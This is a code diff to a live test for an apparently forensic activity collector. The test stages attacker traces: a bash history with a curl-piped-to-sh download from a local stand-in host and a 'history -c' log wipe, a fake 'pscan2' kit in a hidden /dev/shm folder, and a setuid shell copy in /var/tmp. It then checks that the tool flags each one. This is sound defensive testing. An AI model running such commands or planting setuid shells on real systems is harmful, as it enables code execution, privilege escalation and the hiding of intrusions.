@@ -6,7 +6,7 @@
  * (with #epoch stamps) pipes curl into sh and ends with `history -c`; the account is removed after.
  */
 import { execFileSync, spawnSync } from 'node:child_process';
-import { chownSync, existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { chmodSync, chownSync, copyFileSync, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -83,6 +83,9 @@ describe.skipIf(!isRoot || !useradd || !userdel)('activity, live: a throwaway ac
   const home = `/home/${user}`;
   let created = false;
   let work = '';
+  // A kit unpacked in a hidden /dev/shm folder and a setuid shell copy in /var/tmp (mode 4750: only root's group can run it meanwhile).
+  const kitDir = `/dev/shm/.irt-${process.pid}`;
+  const suidShell = `/var/tmp/irt-${process.pid}-sh`;
   let result: Awaited<ReturnType<typeof collect>>;
   const t0 = Math.floor(Date.now() / 1000) - 600;
 
@@ -94,17 +97,24 @@ describe.skipIf(!isRoot || !useradd || !userdel)('activity, live: a throwaway ac
     const history = [`#${t0}`, 'cd /dev/shm', `#${t0 + 10}`, 'curl -fsSL http://127.0.0.1:9/x.sh | sh', `#${t0 + 20}`, 'history -c', ''].join('\n');
     writeFileSync(`${home}/.bash_history`, history, { mode: 0o600 });
     chownSync(`${home}/.bash_history`, uid, uid);
+    mkdirSync(kitDir);
+    copyFileSync('/bin/true', `${kitDir}/pscan2`);
+    chmodSync(`${kitDir}/pscan2`, 0o755);
+    copyFileSync('/bin/sh', suidShell);
+    chmodSync(suidShell, 0o4750);
     const playbook = path.join(work, 'activity.yaml');
     writeFileSync(
       playbook,
-      'title: Activity on this machine\ndescription: The shell histories and the activity rules.\nsteps:\n  - id: activity\n    kind: collect\n    title: What did they do after logging in?\n    why: Histories.\n    collect: [shell-history]\n    rules: [activity.download-execute, activity.log-wipe, activity.defence-off, activity.account-change, activity.history-tampering]\n',
+      'title: Activity on this machine\ndescription: The shell histories and the activity rules.\nsteps:\n  - id: activity\n    kind: collect\n    title: What did they do after logging in?\n    why: Histories.\n    collect: [shell-history, file-sweep]\n    rules: [activity.download-execute, activity.log-wipe, activity.defence-off, activity.account-change, activity.history-tampering, file.new-executable, file.setuid-unpackaged]\n',
     );
-    result = await collect(['--playbook', playbook]);
+    result = await collect(['--playbook', playbook, '--since', new Date(Date.now() - 3_600_000).toISOString()]);
   }, 300_000);
 
   afterAll(() => {
     if (created) spawnSync(userdel!, ['-r', user], { stdio: 'ignore' });
     rmSync(home, { recursive: true, force: true });
+    rmSync(kitDir, { recursive: true, force: true });
+    rmSync(suidShell, { force: true });
     if (work) rmSync(work, { recursive: true, force: true });
   });
 
@@ -123,5 +133,20 @@ describe.skipIf(!isRoot || !useradd || !userdel)('activity, live: a throwaway ac
     const timeline = readFileSync(path.join(result.caseDir, 'timeline.csv'), 'utf8');
     expect(timeline.split('\n').find((l) => l.includes('127.0.0.1:9/x.sh'))).toContain(new Date((t0 + 10) * 1000).toISOString().slice(0, 19));
     expect(result.findings.filter((f) => isActivity(f) && typeof f.subject.path === 'string' && (f.subject.path as string).startsWith(REPO))).toEqual([]);
+  });
+
+  it('the kit in the hidden /dev/shm folder and the setuid shell in /var/tmp are named, and the bodyfile holds them', () => {
+    const kit = result.findings.find((f) => f.rule === 'file.new-executable' && f.subject.path === `${kitDir}/pscan2`);
+    expect(kit?.severity).toBe('high');
+    const suid = result.findings.find((f) => f.rule === 'file.setuid-unpackaged' && f.subject.path === suidShell);
+    expect(suid?.severity).toBe('critical');
+    expect(suid?.subject.mode).toBe(0o4750);
+    const body = readFileSync(path.join(result.caseDir, 'artifacts/bodyfile.txt'), 'utf8');
+    expect(body).toMatch(new RegExp(`\\|${kitDir.replaceAll('.', '\\.')}/pscan2\\|\\d+\\|-rwxr-xr-x\\|0\\|0\\|`));
+    expect(body).toContain(`|${suidShell}|`);
+    const sweep = JSON.parse(readFileSync(path.join(result.caseDir, 'manifest.json'), 'utf8')).sources.find((s: { id: string }) => s.id === 'file-sweep');
+    expect(sweep.status).toBe('ok');
+    // Packaged set-id programs (su, passwd, mount) are not findings.
+    expect(result.findings.filter((f) => f.rule === 'file.setuid-unpackaged' && /^\/usr\/bin\/(?:su|passwd|mount)$/.test(String(f.subject.path)))).toEqual([]);
   });
 });
